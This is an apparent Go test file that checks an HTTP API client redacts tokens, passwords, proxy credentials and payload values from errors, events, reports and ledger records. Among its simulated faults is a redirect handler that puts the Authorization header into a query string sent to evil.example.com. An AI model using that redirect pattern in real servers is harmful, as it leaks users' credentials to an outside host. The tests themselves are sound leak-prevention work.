package httpapi

import (
	"bytes"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"net/url"
	"strings"
	"testing"

	"github.com/flamingock/flamingock-go/core"
)

// An API that echoes everything it is sent, in all the forms that it comes in, gets none
// of it into an error, an event, the report or the ledger.
func TestNothingSecretIsSaid(t *testing.T) {
	// The Runner removes every word of a payload's values from what it says. Those of the
	// credentials are others, so that it cannot hide what is left of these.
	const canary = "cana" // also a part of one
	values := map[string]string{
		"TOKEN": "canary-token", "PASSWORD": `canary"p@ss/word<é>`, "KEY": "canary-key", "QUERY": "qcanary query&", "PAYLOAD": "pcanary\tpayload", "PATH": "rcanary/path",
	}
	issued := newIssuer(t)
	for name, auth := range map[string]authSettings{
		"bearer":  {Bearer: "${env:TOKEN}"},
		"basic":   {Basic: &basicSettings{User: "me", Password: "${env:PASSWORD}"}},
		"oauth2":  {OAuth2: &oauth2Settings{TokenURL: issued.server.URL, ClientID: "client", ClientSecret: "${env:TOKEN}"}},
		"literal": {Bearer: "canary-literal"},
	} {
		for kind, fault := range map[string]func(w http.ResponseWriter, r *http.Request){
			"refused": func(w http.ResponseWriter, r *http.Request) { w.WriteHeader(http.StatusBadRequest); echo(w, r) },
			"failed": func(w http.ResponseWriter, r *http.Request) {
				w.WriteHeader(http.StatusInternalServerError)
				echo(w, r)
			},
			"other content": func(w http.ResponseWriter, r *http.Request) {
				all := new(bytes.Buffer)
				echo(all, r)
				json.NewEncoder(w).Encode(map[string]string{"name": all.String(), "auth": r.Header.Get("Authorization")})
			},
			"hung up": func(_ http.ResponseWriter, _ *http.Request) { hangUp() },
			"redirected": func(w http.ResponseWriter, r *http.Request) {
				w.Header().Set("Location", "https://evil.example.com/?x="+url.QueryEscape(r.Header.Get("Authorization")))
				w.WriteHeader(http.StatusTemporaryRedirect)
			},
			// The cut of a quotation goes through the middle of a secret.
			"cut": func(w http.ResponseWriter, r *http.Request) {
				_, credentials, _ := strings.Cut(r.Header.Get("Authorization"), " ")
				w.WriteHeader(http.StatusBadRequest)
				fmt.Fprint(w, strings.Repeat("x", maxQuote-len(" … (cut)")-6), credentials, strings.Repeat("x", 99))
			},
			"cut, of the payload": func(w http.ResponseWriter, r *http.Request) {
				w.WriteHeader(http.StatusBadRequest)
				fmt.Fprint(w, strings.Repeat("x", maxQuote-len(" … (cut)")-6), r.Header.Get("X-Payload"), strings.Repeat("x", 99))
			},
		} {
			t.Run(name+", "+kind, func(t *testing.T) {
				t.Parallel()
				a := newAPI(t)
				a.fault = func(w http.ResponseWriter, r *http.Request, _ func()) bool {
					if r.Method == http.MethodHead {
						return false
					}
					fault(w, a.last())
					return true
				}
				target := targetOf(t, entry{settings: settings{BaseURL: a.url(), Headers: map[string]string{"X-Custom": "${env:KEY}", "X-Session": "canary-as-it-is"}, Auth: auth}, values: values})
				l := newLedger()
				l.values = values
				c := mustLoad(t, target, "apply: { method: POST, path: '/plans/${env:PATH}?q=${env:QUERY}', headers: { X-Payload: '${env:QUERY}' }, "+
					"json: { a: '${env:PAYLOAD}', b: '${env:QUERY}' }, expect: { json: { $.name: '${env:PAYLOAD}' }, absent: [ $.auth ] } }\nrollback: { method: DELETE, path: '/plans/${env:PATH}' }")
				said, err := l.apply(t, target, c)
				if err == nil {
					t.Fatal("no error")
				}
				recorded, _ := json.Marshal(l.history(t))
				for what, text := range map[string]string{"the error": err.Error(), "events and report": said, "the ledger": string(recorded), "the hint": core.HintOf(err)} {
					if i := strings.Index(text, canary); i >= 0 || strings.Contains(text, "bWU6Y") || strings.Contains(text, "access-token") {
						t.Errorf("%s shows it: %s", what, core.Cap(text[max(0, i-40):], 300))
					}
				}
				if kind == "refused" && !strings.Contains(err.Error(), "[secret]") {
					t.Errorf("nothing of the answer is quoted: %v", err)
				}
			})
		}
	}
}

// echo writes what was sent as it came, as text, and as JSON and URLs have it.
func echo(w io.Writer, r *http.Request) {
	body, _ := io.ReadAll(r.Body)
	fmt.Fprintln(w, r.Header.Get("Authorization"), r.Header.Get("X-Custom"), r.Header.Get("X-Session"), r.RequestURI)
	user, password, _ := r.BasicAuth()
	fmt.Fprintln(w, user, password, url.QueryEscape(password), url.PathEscape(password))
	inner, _ := json.Marshal([]string{password, r.Header.Get("Authorization")})
	fmt.Fprintln(w, string(inner))
	json.NewEncoder(w).Encode(map[string]string{"request": string(inner)})
	w.Write(body)
	fmt.Fprintln(w, r.URL.Query())
}

// A proxy's password is in no error.
func TestProxy(t *testing.T) {
	a := newAPI(t)
	var asked []string
	proxy := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		asked = append(asked, r.URL.String()+" "+r.Header.Get("Proxy-Authorization"))
		a.act(w, r, nil)
	}))
	defer proxy.Close()
	u, _ := url.Parse(proxy.URL)
	u.User = url.UserPassword("me", "canary")
	for _, proxyURL := range []string{u.String(), "${env:PROXY}"} {
		target := targetOf(t, entry{settings: settings{BaseURL: "http://api.example.com/v1", Proxy: proxyURL}, values: map[string]string{"PROXY": u.String()}})
		if err := target.Ping(t.Context()); err != nil {
			t.Error(err)
		}
	}
	if len(asked) != 2 || asked[0] != "http://api.example.com/v1 Basic bWU6Y2FuYXJ5" {
		t.Errorf("the proxy was asked for %q", asked)
	}
	proxy.Close()
	err := targetOf(t, entry{settings: settings{BaseURL: "http://api.example.com/v1", Proxy: u.String()}}).Ping(t.Context())
	if core.CodeOf(err) != core.CodeUnavailable || strings.Contains(err.Error(), "canary") {
		t.Errorf("got %v", err)
	}
	if err := targetOf(t, entry{settings: settings{BaseURL: a.url(), Proxy: "none"}}).Ping(t.Context()); err != nil {
		t.Error(err)
	}
	target := targetOf(t, entry{settings: settings{BaseURL: a.url(), Proxy: "${env:PROXY}"}, values: map[string]string{"PROXY": "canary:canary@"}})
	if err := target.Ping(t.Context()); core.CodeOf(err) != core.CodeConfigInvalid || strings.Contains(err.Error(), "canary") {
		t.Errorf("got %v", err)
	}
}
